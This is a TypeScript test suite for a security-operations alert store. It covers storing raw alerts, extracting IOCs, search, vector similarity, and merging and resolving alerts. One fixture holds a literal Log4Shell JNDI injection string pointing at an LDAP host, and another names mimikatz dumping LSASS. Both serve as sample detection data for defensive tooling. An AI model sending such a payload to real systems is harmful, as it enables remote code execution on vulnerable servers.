import { sql } from 'drizzle-orm';
import { createHashingEmbedder, type Embedder } from 'kioku/store';
import type { DrizzleStore } from 'kioku/store/drizzle';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { storeTargets } from '../store/__fixtures__/store-targets.js';
import { openInvestigatorStore, rowsOf } from '../store/index.js';
import { fourDimensions } from './__fixtures__/four-dimensions.js';
import { AlertStateError } from './alert-state-error.js';
import { type AlertStore, createAlertStore } from './create-alert-store.js';
import { EmbeddingSpaceError } from './embedding-space-error.js';
import { ingestAlert } from './ingest-alert.js';
import { InvalidAlertError } from './invalid-alert-error.js';
import { similarAlertsQuery } from './similar-alerts-query.js';
import { UnknownAlertError } from './unknown-alert-error.js';

const jane = { name: 'jane', via: 'cli' };

const embedder = createHashingEmbedder();
// Odd spacing, key order, a BOM-free unicode escape and a trailing newline: all must survive byte for byte.
const lsass =
  '{ "AlertName":"LSASS memory read",  "Severity":"High", "Compromised":"MKT01",\n "Process":"C:\\\\Users\\\\pgustavo\\\\winx64_payload.exe", "Remote":"10.0.1.14", "note":"caf\\u00e9" }\n';
const log4shell = JSON.stringify({
  title: 'Log4Shell exploitation attempt',
  severity: 'critical',
  host: 'UBUNTU5',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell payload, literally
  payload: '${jndi:ldap://192.168.2.5:1389/a}',
  cve: 'CVE-2021-44228',
});
const lsassAgain = JSON.stringify({
  AlertName: 'LSASS memory read',
  Severity: 'High',
  Compromised: 'MKT01',
  Process: 'mimikatz.exe',
});

for (const target of storeTargets()) {
  describe.skipIf(target.skip !== undefined)(
    `alert store: ${target.name}${target.skip ? ` (skipped: ${target.skip})` : ''}`,
    () => {
      let store: DrizzleStore;
      let alerts: AlertStore;
      beforeAll(async () => {
        await target.setup();
        store = await openInvestigatorStore({ location: target.location() });
        alerts = createAlertStore(store);
      });
      afterAll(async () => {
        await store?.close();
        await target.teardown();
      });

      it('applies its migrations in its own ledger, once, beside kioku’s', async () => {
        const ledger = rowsOf<{ tag: string }>(
          await store.db.execute(sql`select tag from investigator_schema_migrations order by tag`),
        );
        expect(ledger.map((row) => row.tag)).toEqual([
          '0000_alerts',
          '0001_intel_indicators',
          '0002_console_admin',
          '0003_memory_recalls',
          '0004_team',
          '0005_alert_scale',
          '0006_alert_list_keys',
        ]);
        const kioku = rowsOf<{ tag: string }>(
          await store.db.execute(sql`select tag from kioku_schema_migrations`),
        );
        expect(kioku.map((row) => row.tag)).not.toContain('0000_alerts');
        const again = await openInvestigatorStore({ location: target.location() }).catch(
          (error: Error) => error,
        );
        // A directory store is locked by its open handle; the others reopen and find nothing to apply.
        if (again instanceof Error) expect(target.name).toMatch(/directory/);
        else await again.close();
      });

      it('keeps the raw alert byte for byte and finds its IOCs without a model', async () => {
        const created = await alerts.create(await ingestAlert({ raw: lsass, schema: 'sentinel', embedder }));
        const alert = await alerts.get(created.id);
        expect(alert.raw).toBe(lsass);
        expect(alert).toMatchObject({
          schema: 'sentinel',
          status: 'open',
          title: 'LSASS memory read',
          severity: 'high',
          summarizedBy: 'fallback',
        });
        expect(alert.attributes.Compromised).toBe('MKT01');
        expect(alert.iocs).toEqual([{ kind: 'ipv4', value: '10.0.1.14' }]);
        expect(alert.createdAt).toBeInstanceOf(Date);
        expect(alert.resolution).toBeUndefined();
      });

      it('lists by status, time and text, newest first', async () => {
        const second = await alerts.create(await ingestAlert({ raw: log4shell, schema: 'syslog', embedder }));
        expect(second.iocs).toEqual(
          expect.arrayContaining([
            { kind: 'url', value: 'ldap://192.168.2.5:1389/a' },
            { kind: 'cve', value: 'CVE-2021-44228' },
          ]),
        );
        const all = (await alerts.list()).alerts;
        expect(all[0]?.id).toBe(second.id);
        expect((await alerts.list({ text: 'log4shell' })).alerts.map((a) => a.id)).toEqual([second.id]);
        expect((await alerts.list({ text: '100%_' })).alerts).toEqual([]);
        expect((await alerts.list({ since: new Date(Date.now() + 3_600_000) })).alerts).toEqual([]);
        expect((await alerts.list({ status: 'open' })).alerts.length).toBe(all.length);
        expect((await alerts.list({ status: 'resolved' })).alerts).toEqual([]);
      });

      it('searches text anywhere (raw included) and attributes exactly', async () => {
        expect((await alerts.search({ text: 'jndi:ldap' })).map((a) => a.title)).toEqual([
          'Log4Shell exploitation attempt',
        ]);
        expect((await alerts.search({ attributes: { Compromised: 'MKT01' } })).map((a) => a.title)).toEqual([
          'LSASS memory read',
        ]);
        expect(await alerts.search({ attributes: { Compromised: 'MKT02' } })).toEqual([]);
        await expect(alerts.search({})).rejects.toThrow(InvalidAlertError);
      });

      it('ranks similar alerts by embedding (pgvector)', async () => {
        const again = await alerts.create(
          await ingestAlert({ raw: lsassAgain, schema: 'sentinel', embedder }),
        );
        const similar = await alerts.similar(again.id, 2);
        expect(similar.map((s) => s.alert.title)).toEqual([
          'LSASS memory read',
          'Log4Shell exploitation attempt',
        ]);
        expect(similar[0]?.distance).toBeLessThan(similar[1]?.distance ?? 0);
      });

      it('finds similar alerts through the HNSW index, not by comparing every alert', async () => {
        const [alert] = (await alerts.search({ text: 'LSASS' })).map((a) => a.id);
        const query = similarAlertsQuery({
          id: alert ?? '',
          dimensions: embedder.dimensions,
          embedder: embedder.id,
          k: 5,
        });
        // Three alerts are cheaper to scan: with scans priced out, only a query that can use the index does.
        const plan = await store.transaction(async (tx) => {
          await tx.execute(sql`set local enable_seqscan = off`);
          return rowsOf<Record<string, string>>(await tx.execute(sql`explain ${query}`))
            .map((row) => Object.values(row)[0])
            .join('\n');
        });
        expect(plan).toMatch(
          new RegExp(`Index Scan using investigator_alerts_embedding_${embedder.dimensions}_idx`),
        );
      });

      it('merges an alert into another and back, refusing cycles', async () => {
        const [again, first] = (await alerts.search({ text: 'LSASS' })).map((a) => a.id) as [string, string];
        const merged = await alerts.merge({ id: again, into: first, by: jane });
        expect(merged.mergedInto).toBe(first);
        expect((await alerts.list()).alerts.map((a) => a.id)).not.toContain(again);
        expect((await alerts.mergedInto(first)).map((a) => a.id)).toEqual([again]);
        await expect(alerts.merge({ id: first, into: again, by: jane })).rejects.toThrow(
          /merged into .*; merge into that alert instead/,
        );
        await expect(alerts.merge({ id: first, into: first, by: jane })).rejects.toThrow(AlertStateError);
        expect((await alerts.unmerge({ id: again, by: jane })).mergedInto).toBeUndefined();
        await expect(alerts.unmerge({ id: again, by: jane })).rejects.toThrow(/not merged/);
        await alerts.merge({ id: again, into: first, by: jane });
      });

      it('resolves by an analyst only, with the alerts merged into it, once', async () => {
        const [first] = (
          await alerts.search({ attributes: { Compromised: 'MKT01', Severity: 'High' } })
        ).slice(-1);
        if (first === undefined) throw new Error('no alert');
        await expect(
          alerts.resolve({
            id: first.id,
            conclusion: 'true_positive',
            reason: 'dump',
            by: { name: ' ', via: 'cli' },
          }),
        ).rejects.toThrow(/analyst/);
        await expect(
          alerts.resolve({ id: first.id, conclusion: 'maybe' as 'benign', reason: 'x', by: jane }),
        ).rejects.toThrow(/one of true_positive, false_positive, benign, escalated/);
        const [child] = await alerts.mergedInto(first.id);
        if (child === undefined) throw new Error('no merged alert');
        await expect(
          alerts.resolve({ id: child.id, conclusion: 'benign', reason: 'x', by: jane }),
        ).rejects.toThrow(/resolve that alert instead/);
        const resolved = await alerts.resolve({
          id: first.id,
          conclusion: 'true_positive',
          reason: 'mimikatz dumped LSASS',
          by: jane,
        });
        expect(resolved.status).toBe('resolved');
        expect(resolved.resolution).toMatchObject({
          conclusion: 'true_positive',
          reason: 'mimikatz dumped LSASS',
          by: 'jane',
        });
        expect(resolved.resolution?.at).toBeInstanceOf(Date);
        expect((await alerts.get(child.id)).resolution?.conclusion).toBe('true_positive');
        await expect(
          alerts.resolve({
            id: first.id,
            conclusion: 'benign',
            reason: 'x',
            by: { name: 'joe', via: 'cli' },
          }),
        ).rejects.toThrow(/already resolved/);
        expect((await alerts.list({ status: 'resolved' })).alerts.map((a) => a.id)).toEqual([first.id]);
        const open = (await alerts.list({ status: 'open' })).alerts[0];
        if (open === undefined) throw new Error('no open alert');
        await expect(alerts.merge({ id: open.id, into: first.id, by: jane })).rejects.toThrow(
          /is resolved and .* is open; resolve .* on its own/,
        );
        expect((await alerts.get(open.id)).mergedInto).toBeUndefined();
      });

      it('names an unknown alert', async () => {
        await expect(alerts.get('nope')).rejects.toThrow(UnknownAlertError);
        await expect(alerts.similar('nope')).rejects.toThrow(/no alert "nope"/);
      });
    },
  );
}

describe('one embedding space per store (PGlite in memory)', () => {
  it('a store keeps one embedding space: another model or length is refused, reembed moves all alerts', async () => {
    const store = await openInvestigatorStore({ location: 'memory://' });
    try {
      const alerts = createAlertStore(store);
      const hashing = createHashingEmbedder();
      const raws = [
        '{"AlertName":"LSASS memory read","host":"MKT01"}',
        '{"AlertName":"Log4Shell exploitation","host":"UBUNTU5"}',
      ];
      const stored = [];
      for (const raw of raws) {
        stored.push(await alerts.create(await ingestAlert({ raw, schema: 'sentinel', embedder: hashing })));
      }
      const model: Embedder = {
        id: 'openai-compatible:embed-small',
        dimensions: 4,
        kind: 'semantic',
        embed: async (texts) => texts.map(fourDimensions),
      };
      const third = '{"AlertName":"S3 exfiltration","host":"EC2"}';
      const byModel = await ingestAlert({ raw: third, schema: 'cloudtrail', embedder: model });
      const refused = alerts.create(byModel);
      await expect(refused).rejects.toBeInstanceOf(EmbeddingSpaceError);
      await expect(refused).rejects.toThrow(
        `the store's alerts are embedded by ${hashing.id} at ${hashing.dimensions} dimensions (2 alerts); the embedder in use is openai-compatible:embed-small at 4 dimensions: vectors of different models cannot be compared. Nothing was stored.`,
      );
      // The same embedder at another length: the dimensions differ from the stored vectors'.
      const shorter = createHashingEmbedder({ dimensions: 64 });
      await expect(
        alerts.create(await ingestAlert({ raw: third, schema: 'cloudtrail', embedder: shorter })),
      ).rejects.toThrow(
        /at 64 dimensions: its vectors have 64 dimensions, which differ from the stored vectors'/,
      );
      expect((await alerts.list()).alerts).toHaveLength(2);

      const { alerts: moved, before } = await alerts.reembed(model);
      expect(moved).toBe(2);
      expect(before).toEqual([{ embedder: hashing.id, dimensions: hashing.dimensions, alerts: 2 }]);
      expect(await alerts.embeddingSpaces()).toEqual([
        { embedder: 'openai-compatible:embed-small', dimensions: 4, alerts: 2 },
      ]);
      for (const alert of stored) {
        // Only the embedding changed: the raw alert, its summary and IOCs are as stored.
        expect(await alerts.get(alert.id)).toEqual({ ...alert, embedder: 'openai-compatible:embed-small' });
      }
      const created = await alerts.create(byModel);
      expect((await alerts.similar(created.id)).map((found) => found.alert.id).sort()).toEqual(
        stored.map((alert) => alert.id).sort(),
      );
    } finally {
      await store.close();
    }
  });
});
